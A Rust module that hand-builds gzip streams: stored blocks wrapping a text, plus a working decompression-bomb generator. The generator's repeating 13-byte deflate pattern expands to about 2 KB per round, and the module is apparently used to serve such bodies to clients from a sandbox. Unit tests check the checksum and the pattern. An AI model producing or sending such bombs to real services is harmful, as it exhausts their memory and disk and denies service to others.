//! Gzip by hand (RFC 1952, RFC 1951), in two forms: a text as it is in stored blocks, and a body that says so much with
//! so little that whoever unpacks it whole is lost. Fixed bytes that repeat cost the sandbox nothing, however much
//! they mean.

/// No name, no time, no flags.
const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];

/// What one of [`pattern`]'s rounds means to whoever unpacks it: 8 copies of 258 bytes.
const ROUND_MEANS: u64 = 8 * 258;

/// A text, compressed by not a single byte.
pub(super) fn stored(text: &[u8]) -> Vec<u8> {
    let mut packed = HEADER.to_vec();
    let mut chunks = text.chunks(0xffff).peekable();
    if chunks.peek().is_none() {
        block(&mut packed, &[], true);
    }
    while let Some(chunk) = chunks.next() {
        block(&mut packed, chunk, chunks.peek().is_none());
    }
    packed.extend(crc32(text).to_le_bytes());
    // The length counts modulo 2³².
    packed.extend(u32::try_from(text.len()).unwrap_or(u32::MAX).to_le_bytes());
    packed
}

fn block(packed: &mut Vec<u8>, chunk: &[u8], last: bool) {
    let length = u16::try_from(chunk.len()).unwrap_or(u16::MAX);
    packed.push(u8::from(last));
    packed.extend(length.to_le_bytes());
    packed.extend((!length).to_le_bytes());
    packed.extend(chunk);
}

fn crc32(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(u32::MAX, |crc, byte| {
        (0..8).fold(crc ^ u32::from(*byte), |crc, _| match crc & 1 {
            1 => (crc >> 1) ^ 0xedb8_8320,
            _ => crc >> 1,
        })
    })
}

/// The beginning of a bomb: a text, then the first bits of a block with fixed codes that begins with a space. The
/// rounds follow without an end.
pub(super) fn bomb_head(text: &[u8]) -> Vec<u8> {
    let mut packed = HEADER.to_vec();
    text.chunks(0xffff).for_each(|chunk| block(&mut packed, chunk, false));
    packed.extend(first_bytes());
    packed
}

/// How many bytes of [`pattern`] unpack to at least so many.
pub(super) fn bomb_length(unpacked: u64) -> u64 {
    unpacked.div_ceil(ROUND_MEANS) * 13
}

/// Bits in the order in which deflate reads them: each byte from its lowest bit on.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    filled: u32,
}

impl Bits {
    fn push(&mut self, bit: bool) {
        if self.filled.is_multiple_of(8) {
            self.bytes.push(0);
        }
        if let Some(last) = self.bytes.last_mut() {
            *last |= u8::from(bit) << (self.filled % 8);
        }
        self.filled += 1;
    }

    /// A Huffman code, which stands with its highest bit first.
    fn code(&mut self, code: u32, length: u32) {
        (0..length).rev().for_each(|place| self.push(code >> place & 1 == 1));
    }
}

/// A last block (1) with fixed codes (01), the literal space (0x30 + 0x20 in 8 bits), and as many copies of 258 bytes
/// from one byte back (length 285 is 0xc5 in 8 bits, distance 0 is 0 in 5 bits) as fill whole bytes and two rounds.
fn opening() -> Vec<u8> {
    let mut bits = Bits::default();
    for bit in [true, true, false] {
        bits.push(bit);
    }
    bits.code(0x50, 8);
    for _ in 0..24 {
        bits.code(0xc5, 8);
        bits.code(0, 5);
    }
    bits.bytes
}

/// The bytes before the rounds begin to repeat.
fn first_bytes() -> Vec<u8> {
    opening().into_iter().take(13).collect()
}

/// One round: 8 copies in 13 bytes, which repeat, because 8 times 13 bits are whole bytes.
pub(super) fn pattern() -> Vec<u8> {
    opening().into_iter().skip(13).take(13).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_check_sum_is_that_of_the_standard() {
        assert_eq!(crc32(b"123456789"), 0xcbf4_3926);
    }

    #[test]
    fn rounds_repeat_bit_by_bit() {
        let opening = opening();
        assert_eq!(opening[2..2 + 13], opening[15..15 + 13]);
        assert_eq!(pattern().len(), 13);
        assert_eq!(bomb_length(1), 13);
        assert_eq!(bomb_length(ROUND_MEANS * 1000), 13_000);
    }
}
